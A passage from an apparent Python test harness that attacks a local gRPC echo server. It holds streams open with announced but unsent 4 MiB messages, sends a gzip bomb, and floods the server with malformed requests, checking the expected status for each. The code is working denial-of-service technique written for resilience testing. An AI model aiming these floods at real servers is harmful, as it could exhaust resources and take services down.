    (one byte each), not what the prefix announced (4 MiB each, 4 GiB in all).""")
def announced_unsent(port, duration, res):
    """1000 Echo streams (10 connections x 100), each a 5-byte prefix announcing 4 MiB and one
    byte of it, then nothing."""
    end = now() + duration
    cs = []
    for _ in range(10):
        c = Conn(port, answers=res.answers)
        out = bytearray()
        for _ in range(MAX_STREAMS):
            sid = c.new_stream()
            out += headers(sid, request_block())
            out += data(sid, grpc_message(b"\x0a", announce=MAX_MESSAGE))
        c.send(out, end)
        cs.append(c)
    hold(cs, end)
    for c in cs:
        c.close()
    res.stats.update(streams=10 * MAX_STREAMS, announced_gib=4 * 10 * MAX_STREAMS // 1024)
    return only(res, [])


# Each malformed request: how to send it, and the one answer it must get.
def _req(block, body, end_stream=True):
    def send(c):
        sid = c.new_stream()
        out = headers(sid, block, end_stream=body is None)
        if body is not None:
            out += data(sid, body, end_stream)
        c.send(out)
        return sid
    return send


MALFORMED = collections.OrderedDict([
    # name: (request, expected answer)
    ("prefix_over_body", (_req(request_block(), grpc_message(b"\x0a\x05hello", announce=100)),
                          "grpc-status 13")),
    ("compressed_without_encoding", (_req(request_block(), grpc_message(
        gzip_bytes(echo_request(b"x")), compressed=True)), "grpc-status 13")),
    ("unknown_encoding", (_req(request_block(encoding="x-unheard-of"), grpc_message(
        b"\x0a\x01x", compressed=True)), "grpc-status 12")),
    ("gzip_bomb", (_req(request_block(encoding="gzip"), grpc_message(
        gzip_bytes(echo_request(b"\0" * (16 << 20))), compressed=True)), "grpc-status 8")),
    ("invalid_protobuf", (_req(request_block(), grpc_message(b"\xff" * 16)), "grpc-status 13")),
    ("oversize_message", (_req(request_block(), grpc_message(b"\0" * 1024,
                                                             announce=MAX_MESSAGE + 1), False),
                          "grpc-status 8")),
    ("junk_timeout", (_req(request_block(timeout="soon"), ECHO), "grpc-status 13")),
    ("nine_digit_timeout", (_req(request_block(timeout="123456789S"), ECHO), "grpc-status 13")),
    ("huge_timeout", (_req(request_block(timeout="99999999H"), ECHO), "grpc-status 0")),
    ("bad_content_type", (_req(request_block(content_type="text/html"), ECHO), "http 415")),
    ("no_content_type", (_req(request_block(content_type=None), ECHO), "http 415")),
    ("unknown_path", (_req(request_block(path="/e2e.Echo/Nope"), ECHO), "grpc-status 12")),
    ("root_path", (_req(request_block(path="/"), ECHO), "grpc-status 12")),
    ("missing_te", (_req(request_block(te=None), ECHO), "grpc-status 0")),
    ("get_method", (_req(request_block(method="GET"), None), "http 405")),
])


@attack("malformed_requests", expected="""
    per request: length prefix longer than the body, then END_STREAM: grpc-status 13 INTERNAL;
    compressed flag without grpc-encoding: 13; unknown grpc-encoding: 12 UNIMPLEMENTED; gzip
    inflating past 4 MiB: 8 RESOURCE_EXHAUSTED; invalid protobuf: 13; a prefix announcing more
    than 4 MiB: 8, at once, before the body; junk or 9-digit grpc-timeout: 13; 99999999H: 0
    (served); content-type not application/grpc or none: HTTP 415; unknown :path or "/": 12;
    no te: 0 (served: te is for proxies); GET: HTTP 405.""")
def malformed_requests(port, duration, res):
    """Each malformed request in turn, 50 in flight on one connection (a new one if the server
    ends it), for the whole attack: the cheap attacks at flood rate."""
    names = list(MALFORMED)
    turn = [0]

    def make(c):
        name = names[turn[0] % len(names)]
        turn[0] += 1
        sid = MALFORMED[name][0](c)
        c.streams[sid].tag = name
        return sid

    per_case = collections.defaultdict(collections.Counter)
    conns = request_loop(port, collections.namedtuple("R", "answers")(collections.Counter()),
                         now() + duration, make, concurrency=50)
    for c in conns:
        for st in c.streams.values():
            if st.tag is None:
                continue
            kind = "no answer in 2s" if st.rst == -1 else stream_answer(st)
            if kind == "no answer" and now() - st.opened < 2.0:
                continue  # still in flight when the attack stopped
            per_case[st.tag][kind] += 1
    bad = []
    for name in names:
        want = MALFORMED[name][1]
        got = per_case[name]
        res.answers["%s: %s" % (name, ",".join(sorted(got)) or "-")] += sum(got.values())
        if set(got) != {want}:
            bad.append("%s wants %s, got %s" % (name, want, dict(got)))
    res.stats.update(requests=sum(len(c.streams) for c in conns))
    return (not bad), "; ".join(bad)


def run(name, port, duration):
    a = ATTACKS[name]
    res = Result()
    t = now()
    try:
        ok, why = a.fn(port, duration, res)
    except Exception as e:  # an attacker that broke is a failed test, said plainly
        import traceback
        traceback.print_exc(file=sys.stderr)
        ok, why = False, "attacker failed: %r" % e
    res.stats["attack_s"] = round(now() - t, 2)
    return {"name": name, "ok": bool(ok), "why": why, "answers": dict(res.answers),
            "stats": res.stats, "expected": a.expected}


def main(argv):
    if len(argv) < 3 or argv[1] not in ATTACKS:
        sys.stderr.write("usage: attacks.py NAME PORT [DURATION]\nattacks: %s\n" %
                         " ".join(ATTACKS))
        return 2
    duration = float(argv[3]) if len(argv) > 3 else ATTACKS[argv[1]].duration
    print(json.dumps(run(argv[1], int(argv[2]), duration)))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
